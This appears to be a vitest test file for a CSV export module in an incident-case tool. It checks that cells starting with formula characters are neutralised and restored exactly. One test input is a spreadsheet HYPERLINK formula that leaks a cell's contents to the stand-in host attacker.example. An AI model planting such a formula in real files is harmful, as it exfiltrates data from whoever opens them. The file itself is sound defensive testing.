import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { readCsv, writeCsv } from '../../../src/cases/csv/csv-format.js';
import { neutraliseFormulaText, restoreFormulaText } from '../../../src/cases/csv/formula-cells.js';

describe('CSV formula injection', () => {
  it.each([
    ['=HYPERLINK("http://attacker.example/?d="&C3,"open")', `'=HYPERLINK("http://attacker.example/?d="&C3,"open")`],
    ['+7 moved at night', "'+7 moved at night"],
    ['-20°C in the punishment cell', "'-20°C in the punishment cell"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ["'=already quoted", "''=already quoted"],
    ["''-twice", "'''-twice"],
  ])('neutralises %j as %j, and restores it exactly', (text, neutralised) => {
    expect(neutraliseFormulaText(text)).toBe(neutralised);
    expect(restoreFormulaText(neutralised)).toBe(text);
  });

  it.each(['Beating in the punishment cell', "'quoted, but no formula", '2024-03-02', 'a=b', '', "'", ' =leading space'])(
    'leaves %j alone both ways',
    (text) => {
      expect(neutraliseFormulaText(text)).toBe(text);
      expect(restoreFormulaText(text)).toBe(text);
    },
  );

  it('writes no live formula into a file, quotes every text, leaves numbers as numbers, and reads the file back as it was', () => {
    const rows = [
      { id: 'inc_1', title: '=1+2', note: '-20°C', count: -5 },
      { id: 'inc_2', title: '\r=cmd', note: "'@x", count: 3 },
    ];
    const csv = writeCsv(['id', 'title', 'note', 'count'], rows);
    const cells = (parse(csv.replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>).flatMap((row) => Object.values(row));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual(['-5']);
    expect(csv).toContain(`"'=1+2"`);
    const { rows: back, errors } = readCsv(csv, ['id', 'title', 'note', 'count']);
    expect(errors).toEqual([]);
    expect(back.map((r) => r.values)).toEqual(rows.map((r) => ({ ...r, count: String(r.count) })));
  });
});
